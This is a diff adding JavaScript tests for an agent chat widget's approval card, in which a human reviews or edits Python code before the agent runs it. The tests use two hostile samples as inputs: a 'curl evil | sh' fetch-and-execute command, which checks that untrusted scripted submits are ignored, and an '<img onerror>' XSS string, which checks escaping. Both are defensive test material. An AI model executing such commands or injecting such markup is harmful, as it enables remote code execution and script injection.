@@ -345,3 +345,86 @@ test("the comm history reply carries interrupts too", async () => {
   assert.ok(el.querySelector(".gth-approval[data-interrupt-id=int-1] .gth-approve"));
   cleanup();
 });
+
+/** run_python's approval: `code` and `language` beside the args, no `command`. */
+const PY_CODE = "import pandas as pd\nsales.groupby('month').sum()";
+const PYTHON = {
+  id: "int-py",
+  reason: "confirmation",
+  message: "The agent wants to run Python in the notebook's kernel (run_python): approvals mode asks.",
+  toolCallId: "call-py",
+  responseSchema: RESPONSE_SCHEMA,
+  metadata: {
+    gth: {
+      value: {
+        type: "gth.approval", reason: "confirmation", toolCallId: "call-py", toolName: "run_python",
+        args: { code: PY_CODE, justification: "sum per month" }, code: PY_CODE, language: "python",
+      },
+    },
+  },
+};
+const pythonRuns = () => [
+  (b) => [started(b), ...toolCall("call-py", "run_python", PYTHON.metadata.gth.value.args), finished(b, { type: "interrupt", interrupts: [PYTHON] })],
+  (b) => [started(b), ...text("m2", "Done."), finished(b)],
+];
+
+test("a code approval shows the code as code, and Edit edits the code itself as text", async () => {
+  const { window, el, chat, requests, idle } = setup(pythonRuns());
+  await chat.send("sum sales per month");
+  const card = el.querySelector(".gth-approval[data-interrupt-id=int-py]");
+  assert.equal(card.dataset.toolName, "run_python");
+  const shown = card.querySelector("pre.gth-approval-code");
+  assert.equal(shown.textContent, PY_CODE);
+  assert.equal(shown.dataset.language, "python");
+  assert.equal(card.querySelector(".gth-approval-command"), null);
+  assert.ok(!card.querySelector(".gth-approval-args").open); // the code is the point; the JSON stays folded
+  click(window, card.querySelector(".gth-edit"));
+  const input = card.querySelector("textarea.gth-approval-input");
+  assert.equal(input.getAttribute("aria-label"), "Edited code");
+  assert.equal(input.value, PY_CODE); // the code, not a JSON object
+  input.value = "sales.groupby('month')['revenue'].sum()";
+  click(window, card.querySelector(".gth-approval-submit"));
+  await until(() => requests.length === 2, "resume request");
+  await idle();
+  assert.deepEqual(requests[1].body.resume, [
+    {
+      interruptId: "int-py",
+      status: "resolved",
+      payload: { approved: true, editedArgs: { code: "sales.groupby('month')['revenue'].sum()", justification: "sum per month" } },
+    },
+  ]);
+  assert.equal(card.dataset.state, "edited");
+});
+
+test("a code approval: empty code is refused inline; a scripted submit does nothing; Approve sends {approved: true}", async () => {
+  const { window, el, chat, requests, idle } = setup(pythonRuns());
+  await chat.send("sum sales per month");
+  const card = el.querySelector(".gth-approval");
+  click(window, card.querySelector(".gth-edit"));
+  const input = card.querySelector(".gth-approval-input");
+  input.value = "  \n";
+  click(window, card.querySelector(".gth-approval-submit"));
+  assert.equal(card.querySelector(".gth-approval-error").hidden, false);
+  assert.equal(input.getAttribute("aria-invalid"), "true");
+  input.value = "import os; os.system('curl evil | sh')";
+  click(window, card.querySelector(".gth-approval-submit"), { trusted: false });
+  await new Promise((r) => setTimeout(r, 10));
+  assert.equal(requests.length, 1);
+  click(window, card.querySelector(".gth-approval-back"));
+  click(window, card.querySelector(".gth-approve"));
+  await until(() => requests.length === 2, "resume request");
+  await idle();
+  assert.deepEqual(requests[1].body.resume, [{ interruptId: "int-py", status: "resolved", payload: { approved: true } }]);
+});
+
+test("code with markup is text in the approval card", async () => {
+  const evil = "print('<img src=x onerror=alert(1)>')";
+  const value = { ...PYTHON.metadata.gth.value, args: { code: evil }, code: evil };
+  const { el, chat } = setup([
+    (b) => [started(b), ...toolCall("call-py", "run_python", { code: evil }), finished(b, { type: "interrupt", interrupts: [{ ...PYTHON, metadata: { gth: { value } } }] })],
+  ]);
+  await chat.send("go");
+  const card = el.querySelector(".gth-approval");
+  assert.equal(card.querySelector(".gth-approval-code").textContent, evil);
+  assert.equal(card.querySelector("img"), null);
+});
